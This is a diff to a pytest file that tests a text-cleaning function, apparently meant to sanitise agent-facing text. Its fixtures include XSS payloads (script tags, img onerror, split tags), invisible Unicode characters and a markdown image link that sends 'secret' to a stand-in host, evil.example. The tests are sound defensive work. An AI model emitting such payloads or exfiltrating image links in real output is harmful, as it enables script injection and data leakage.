@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 import pytest
 
 from services.gateway.agents.cleaning import clean, web_address
@@ -36,6 +38,49 @@ from services.gateway.agents.cleaning import clean, web_address
 )
 def test_only_visible_plain_text_remains(text: str, expected: str) -> None:
     assert clean(text, 300) == expected
+
+
+INVISIBLE = [
+    "\u200b", "\u2060", "\u202e", "\x00", "\x1b", "\xad", "\ufe01", "\ufe0f", "\u034f", "\u3164",
+    "\U000e0041", "\U000e0101", "\u200d", "\ue000", "&#8203;", "&amp;#8203;", "&ZeroWidthSpace;",
+]  # fmt: skip
+MARKUP = [
+    "<{}script>x()</script>",
+    "<{}img src=x onerror=x()>",
+    "</{}b>",
+    "<scr<{}b>ipt>x()</scr</b>ipt>",
+    "[click]{}(http://evil.example)",
+    "![p]{}(http://evil.example/?q=secret)",
+    "[a [b]]{}(http://evil.example)",
+    "[x]{}(http://evil.example/(a))",
+    "[x]{}(http://evil.example/((a)))",
+    "[![p](http://evil.example/p)]{}(http://evil.example)",
+    "[click]{}[1]",
+    "[1]{}: http://evil.example",
+    "<[scr](x){}ipt>x()",
+    "&[l](x){}t;script&gt;",
+    "&{}lt;script&gt;",
+    "&amp;{}lt;script&amp;gt;",
+    "&amp;amp;amp;{}lt;script&gt;",
+    "<{}img src=x",
+    "{}" + "<" * 40 + "b>" * 40,
+    "{}&" + "amp;" * 40 + "lt;b>",
+    "{}" + "[" * 40 + "a" + "](http://evil.example)" * 40,
+]
+
+
+@pytest.mark.parametrize("markup", MARKUP)
+@pytest.mark.parametrize("hidden", ["", *INVISIBLE])
+def test_nothing_that_is_removed_leaves_markup_behind(markup: str, hidden: str) -> None:
+    for text in (markup.format(hidden), markup.format(hidden * 3), markup.replace("{}", hidden)):
+        found = clean(text, 4_000)
+        assert not re.search(r"<[a-z!?/]|\][(\[:]|&[a-z#]", found, re.I), found
+        assert found.isprintable()
+        assert clean(found, 4_000) == found
+
+
+def test_pictographs_keep_their_selector() -> None:
+    assert clean("1\ufe0f\u20e3 \u2764\ufe0f", 300) == "1\ufe0f\u20e3 \u2764\ufe0f"
 
 
 def test_long_text_is_cut_and_marked() -> None:
